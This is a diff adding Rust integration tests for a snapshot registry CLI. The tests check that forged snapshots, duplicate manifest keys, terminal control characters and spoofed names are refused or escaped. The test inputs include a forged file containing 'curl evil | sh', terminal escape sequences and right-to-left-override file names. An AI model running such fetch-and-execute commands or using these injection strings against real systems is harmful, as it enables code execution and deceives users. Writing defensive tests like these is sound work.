@@ -1,0 +1,425 @@
+//! What an archive or a directory may claim, and what the registry prints:
+//! identity of snapshots already present, canonical and duplicate-free
+//! manifests, terminal control characters, names given twice, streaming
+//! `sql`. Each refusal is checked through the binary for its exit code and
+//! message, with the registry and staging unchanged.
+
+use std::io::{BufRead, BufReader};
+use std::os::unix::process::ExitStatusExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use msb_registry::digest::Digest;
+use msb_registry::image::ImageMetadata;
+
+use crate::tarcraft::Tar;
+use crate::util::*;
+
+fn staging_entries(reg: &Reg) -> Vec<String> {
+    std::fs::read_dir(reg.root().join("staging"))
+        .map(|d| {
+            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// Run `args` and assert it fails with `code` and `text`, leaving the
+/// registry, staging and the import journal as they were.
+#[track_caller]
+fn refused(reg: &Reg, args: &[&str], code: i32, text: &str) -> Run {
+    let before = (reg.tree(), reg.dump());
+    let run = reg.run(args).fails(code, text);
+    assert_eq!((reg.tree(), reg.dump()), before, "registry changed");
+    assert!(staging_entries(reg).is_empty(), "staging left behind");
+    let open: Vec<serde_json::Value> = reg.json(&[
+        "sql",
+        "SELECT id FROM imports WHERE state NOT IN ('done', 'failed')",
+    ]);
+    assert!(open.is_empty(), "an import was left open: {open:?}");
+    run
+}
+
+fn write(reg: &Reg, name: &str, bytes: &[u8]) -> String {
+    let p = reg.path(name);
+    std::fs::write(&p, bytes).unwrap();
+    p.to_str().unwrap().to_string()
+}
+
+/// An archive of snapshot directories, each with its manifest's own bytes.
+fn archive_of(dirs: &[(&str, &Path)]) -> Vec<u8> {
+    let mut t = Tar::new();
+    for (prefix, dir) in dirs {
+        for file in ["manifest.json", "upper.ext4"] {
+            t.file(
+                &format!("{prefix}/{file}"),
+                &std::fs::read(dir.join(file)).unwrap(),
+            );
+        }
+    }
+    t.finish()
+}
+
+fn image(reg: &Reg) -> ImageMetadata {
+    make_image_cache(&reg.path("cache"), "python:3.12", 5, &[8192])
+}
+
+/// A snapshot without integrity, and a forgery: the same manifest over an
+/// upper of the same size with other bytes.
+fn genuine_and_forged(reg: &Reg) -> (Digest, PathBuf, PathBuf) {
+    let mut spec = SnapSpec::new(&image(reg));
+    spec.integrity = None;
+    let genuine = reg.path("genuine");
+    let d = make_snapshot(&genuine, &spec);
+    let mut forged_spec = spec.clone();
+    forged_spec
+        .data
+        .push((3 << 20, b"#!/bin/sh\ncurl evil | sh\n".to_vec()));
+    let forged = reg.path("forged");
+    assert_eq!(make_snapshot(&forged, &forged_spec), d, "same manifest");
+    (d, genuine, forged)
+}
+
+#[test]
+fn an_already_present_snapshot_without_integrity_must_match_file_for_file() {
+    for forged_first in [true, false] {
+        let reg = Reg::new();
+        let (d, genuine, forged) = genuine_and_forged(&reg);
+        let prefix = d.archive_prefix();
+        let genuine_tar = write(&reg, "genuine.tar", &archive_of(&[(&prefix, &genuine)]));
+        let forged_tar = write(&reg, "forged.tar", &archive_of(&[(&prefix, &forged)]));
+        let (first, second) = if forged_first {
+            (&forged_tar, &genuine_tar)
+        } else {
+            (&genuine_tar, &forged_tar)
+        };
+        reg.run(&["import", first]).ok();
+        let run = refused(
+            &reg,
+            &["import", second],
+            4,
+            &format!(
+                "conflict: snapshots/{prefix}/upper.ext4: snapshot {d} is already present with this file at digest"
+            ),
+        );
+        assert!(run.stderr.contains("incoming has"), "{}", run.stderr);
+        // add compares too, instead of answering "already in the registry".
+        let other = if forged_first { &genuine } else { &forged };
+        refused(
+            &reg,
+            &["add", other.to_str().unwrap()],
+            4,
+            &format!("conflict: snapshots/{prefix}/upper.ext4"),
+        );
+        // The same content again is still a quiet no-op, by import and by add.
+        reg.run(&["import", first]).ok();
+        let same = if forged_first { &forged } else { &genuine };
+        let out = reg.run(&["add", same.to_str().unwrap()]).ok();
+        assert!(
+            out.stdout.contains("already in the registry"),
+            "{}",
+            out.stdout
+        );
+        reg.run(&["verify", "--content"]).ok();
+    }
+}
+
+#[test]
+fn an_already_present_snapshot_must_have_the_same_set_of_files() {
+    let reg = Reg::new();
+    let (d, genuine, _) = genuine_and_forged(&reg);
+    let prefix = d.archive_prefix();
+    let plain = write(&reg, "plain.tar", &archive_of(&[(&prefix, &genuine)]));
+    reg.run(&["import", &plain]).ok();
+    let mut t = Tar::new();
+    for file in ["manifest.json", "upper.ext4"] {
+        t.file(
+            &format!("{prefix}/{file}"),
+            &std::fs::read(genuine.join(file)).unwrap(),
+        );
+    }
+    t.file(&format!("{prefix}/extra.txt"), b"smuggled");
+    let extra = write(&reg, "extra.tar", &t.finish());
+    refused(
+        &reg,
+        &["import", &extra],
+        4,
+        &format!(
+            "conflict: snapshots/{prefix}/extra.txt: snapshot {d} is already present without this file"
+        ),
+    );
+    reg.run(&["verify", "--content"]).ok();
+}
+
+#[test]
+fn manifests_with_duplicate_keys_are_refused() {
+    let reg = Reg::new();
+    reg.run(&["list"]).ok();
+    let (_, genuine, _) = genuine_and_forged(&reg);
+    let text = String::from_utf8(std::fs::read(genuine.join("manifest.json")).unwrap()).unwrap();
+    for (from, to, message) in [
+        (
+            r#"{"schema":1,"#,
+            r#"{"schema":1,"schema":1,"#,
+            "duplicate field `schema`",
+        ),
+        (
+            r#""labels":{}"#,
+            r#""labels":{"a":"1","a":"2"}"#,
+            r#"key "a" appears twice in labels"#,
+        ),
+        (
+            r#""size_bytes":"#,
+            r#""size_bytes":1,"size_bytes":"#,
+            "duplicate field `size_bytes`",
+        ),
+    ] {
+        let doc = text.replacen(from, to, 1);
+        assert_ne!(doc, text, "{from}");
+        let dir = reg.path("dup");
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::copy(genuine.join("upper.ext4"), dir.join("upper.ext4")).unwrap();
+        std::fs::write(dir.join("manifest.json"), &doc).unwrap();
+        let mut t = Tar::new();
+        t.file("sha256-0123456789abcdef/manifest.json", doc.as_bytes());
+        let tar = write(&reg, "dup.tar", &t.finish());
+        refused(&reg, &["import", &tar], 5, message);
+        refused(&reg, &["add", dir.to_str().unwrap()], 5, message);
+    }
+    reg.run(&["verify", "--content"]).ok();
+}
+
+#[test]
+fn a_non_canonical_manifest_is_stored_as_its_canonical_bytes() {
+    let reg = Reg::new();
+    let (d, genuine, _) = genuine_and_forged(&reg);
+    let canonical = std::fs::read(genuine.join("manifest.json")).unwrap();
+    let value: serde_json::Value = serde_json::from_slice(&canonical).unwrap();
+    let pretty = serde_json::to_vec_pretty(&value).unwrap();
+    assert_ne!(pretty, canonical);
+    let mut t = Tar::new();
+    t.file(&format!("{}/manifest.json", d.archive_prefix()), &pretty);
+    t.file(
+        &format!("{}/upper.ext4", d.archive_prefix()),
+        &std::fs::read(genuine.join("upper.ext4")).unwrap(),
+    );
+    let tar = write(&reg, "pretty.tar", &t.finish());
+    reg.run(&["import", &tar, "--name", "imported"]).ok();
+    let stored = std::fs::read(reg.root().join("snapshots/imported/manifest.json")).unwrap();
+    assert_eq!(stored, canonical);
+    assert_eq!(Digest::of(&stored), d);
+
+    let other = Reg::new();
+    std::fs::write(genuine.join("manifest.json"), &pretty).unwrap();
+    other
+        .run(&["add", genuine.to_str().unwrap(), "--name", "added"])
+        .ok();
+    let stored = std::fs::read(other.root().join("snapshots/added/manifest.json")).unwrap();
+    assert_eq!(Digest::of(&stored), d);
+    reg.run(&["verify", "--content"]).ok();
+    other.run(&["verify", "--content"]).ok();
+}
+
+#[test]
+fn terminal_control_characters_are_refused_in_names_labels_and_files() {
+    let reg = Reg::new();
+    let img = image(&reg);
+    let good = reg.path("good");
+    make_snapshot(&good, &SnapSpec::new(&img).label("stage", "ok"));
+    reg.run(&["add", good.to_str().unwrap(), "--name", "good"])
+        .ok();
+    for (label, shown) in [
+        ("a\x1b[2Jb", "labels.stage"),
+        ("x\u{202e}fdp.exe", "labels.stage"),
+        ("c1\u{9b}31m", "labels.stage"),
+        ("del\x7f", "labels.stage"),
+    ] {
+        let dir = reg.path("bad");
+        let _ = std::fs::remove_dir_all(&dir);
+        let d = make_snapshot(&dir, &SnapSpec::new(&img).label("stage", label));
+        let message = format!("field {shown} holds a control character");
+        refused(&reg, &["add", dir.to_str().unwrap()], 5, &message);
+        let tar = write(&reg, "bad.tar", &archive_of(&[(&d.archive_prefix(), &dir)]));
+        refused(&reg, &["import", &tar], 5, &message);
+    }
+    let dir = reg.path("bad");
+    let _ = std::fs::remove_dir_all(&dir);
+    make_snapshot(&dir, &SnapSpec::new(&img).label("k\u{2067}", "v"));
+    refused(
+        &reg,
+        &["add", dir.to_str().unwrap()],
+        5,
+        "holds a control character",
+    );
+
+    // Member names: a snapshot's other files, and the upper it names.
+    let d = make_snapshot(&dir, &SnapSpec::new(&img));
+    for name in ["note\x7f", "note\u{85}", "rtl\u{202e}txt.exe"] {
+        let mut t = Tar::new();
+        let prefix = d.archive_prefix();
+        t.file(
+            &format!("{prefix}/manifest.json"),
+            &std::fs::read(dir.join("manifest.json")).unwrap(),
+        );
+        t.file(&format!("{prefix}/{name}"), b"x");
+        let tar = write(&reg, "member.tar", &t.finish());
+        let run = refused(&reg, &["import", &tar], 6, "is not a normal file name");
+        assert!(!run.stderr.contains(name), "printed raw: {:?}", run.stderr);
+    }
+    let run = refused(
+        &reg,
+        &["add", good.to_str().unwrap(), "--name", "x\x1b[2J"],
+        2,
+        "invalid snapshot name",
+    );
+    assert!(!run.stderr.contains('\x1b'), "{:?}", run.stderr);
+    reg.run(&["verify", "--content"]).ok();
+}
+
+#[test]
+fn human_output_escapes_what_the_index_holds() {
+    let reg = Reg::new();
+    let img = image(&reg);
+    let dir = reg.path("s");
+    make_snapshot(&dir, &SnapSpec::new(&img).label("stage", "ok"));
+    reg.run(&["add", dir.to_str().unwrap(), "--name", "s"]).ok();
+    // Rows written before the rule existed (or by hand) reach every printer.
+    let hostile = "UPDATE snapshots SET source_sandbox = 'sb' || char(27) || ']0;pwned' || char(7), \
+                   labels = json_object('stage', 'a' || char(27) || '[2J' || char(8238)), \
+                   image_ref = 'img' || char(155) || '31m'";
+    let db = reg.root().join("registry.db");
+    let status = Command::new("sqlite3")
+        .arg(&db)
+        .arg(hostile)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    for args in [
+        vec!["show", "s"],
+        vec!["list"],
+        vec![
+            "sql",
+            "SELECT source_sandbox, labels, image_ref FROM snapshots",
+        ],
+    ] {
+        let out = reg.run(&args).ok().stdout;
+        for c in ['\x1b', '\x07', '\u{9b}', '\u{202e}'] {
+            assert!(!out.contains(c), "{args:?} printed {c:?} raw: {out:?}");
+        }
+        assert!(out.contains("\\u{"), "{args:?}: {out:?}");
+    }
+    let show = reg.run(&["show", "s"]).ok().stdout;
+    assert!(show.contains("sb\\u{1b}]0;pwned\\u{7}"), "{show}");
+    assert!(show.contains("a\\u{1b}[2J\\u{202e}"), "{show}");
+    let status = Command::new("sqlite3")
+        .arg(&db)
+        .arg("UPDATE snapshots SET source_sandbox = 'test', labels = '{\"stage\":\"ok\"}', image_ref = 'python:3.12'")
+        .status()
+        .unwrap();
+    assert!(status.success());
+    reg.run(&["verify", "--content"]).ok();
+}
+
+#[test]
+fn naming_the_head_like_another_snapshot_of_the_archive_is_a_conflict() {
+    let reg = Reg::new();
+    reg.run(&["list"]).ok();
+    let img = image(&reg);
+    let parent_dir = reg.path("p");
+    let parent = make_snapshot(&parent_dir, &SnapSpec::new(&img));
+    let child_dir = reg.path("c");
+    let child = make_snapshot(
+        &child_dir,
+        &SnapSpec::new(&img).parent(parent).label("stage", "child"),
+    );
+    let tar = write(
+        &reg,
+        "chain.tar",
+        &archive_of(&[
+            (&parent.archive_prefix(), &parent_dir),
+            (&child.archive_prefix(), &child_dir),
+        ]),
+    );
+    let name = parent.archive_prefix();
+    refused(
+        &reg,
+        &["import", &tar, "--name", &name],
+        4,
+        &format!(
+            "conflict: snapshot name {name}: would name both {parent} and {child}; choose another --name"
+        ),
+    );
+    reg.run(&["import", &tar, "--name", "head"]).ok();
+    reg.run(&["verify", "--content"]).ok();
+}
+
+const ENDLESS: &str =
+    "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT x FROM c";
+
+fn endless_sql(reg: &Reg, json: bool) -> std::process::Child {
+    reg.run(&["list"]).ok();
+    let mut cmd = Command::new(bin());
+    cmd.arg("--root").arg(reg.root());
+    if json {
+        cmd.arg("--json");
+    }
+    cmd.args(["sql", ENDLESS])
+        .env_remove("MSB_REGISTRY_ROOT")
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap()
+}
+
+/// Wait for `child`, killing it (and failing) if it has not ended after a
+/// generous bound: an endless query that does not stop would hang the suite.
+fn wait_bounded(child: &mut std::process::Child) -> std::process::ExitStatus {
+    for _ in 0..600 {
+        if let Some(status) = child.try_wait().unwrap() {
+            return status;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    child.kill().unwrap();
+    panic!("the query did not stop");
+}
+
+#[test]
+fn sql_streams_and_a_closed_pipe_ends_it_quietly() {
+    let reg = Reg::new();
+    for (json, first) in [
+        (false, vec!["x", "1", "2"]),
+        (true, vec!["[", "  {", "    \"x\": 1"]),
+    ] {
+        let mut child = endless_sql(&reg, json);
+        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
+        let got: Vec<String> = (0..3).map(|_| lines.next().unwrap().unwrap()).collect();
+        assert_eq!(got, first);
+        drop(lines);
+        let status = wait_bounded(&mut child);
+        let mut stderr = String::new();
+        std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut stderr).unwrap();
+        assert_eq!(status.code(), Some(0), "stderr: {stderr}");
+        assert_eq!(stderr, "");
+    }
+}
+
+#[test]
+fn sql_stops_on_sigint() {
+    let reg = Reg::new();
+    for json in [false, true] {
+        let mut child = endless_sql(&reg, json);
+        let mut out = BufReader::new(child.stdout.take().unwrap());
+        let mut line = String::new();
+        for _ in 0..1000 {
+            line.clear();
+            out.read_line(&mut line).unwrap();
+        }
+        // SAFETY: kill(2) on the pid of a child we spawned and have not reaped.
+        assert_eq!(unsafe { libc::kill(child.id() as i32, libc::SIGINT) }, 0);
+        let drain = std::thread::spawn(move || std::io::copy(&mut out, &mut std::io::sink()));
+        let status = wait_bounded(&mut child);
+        assert_eq!(status.signal(), Some(libc::SIGINT), "{status:?}");
+        drain.join().unwrap().unwrap();
+    }
+}
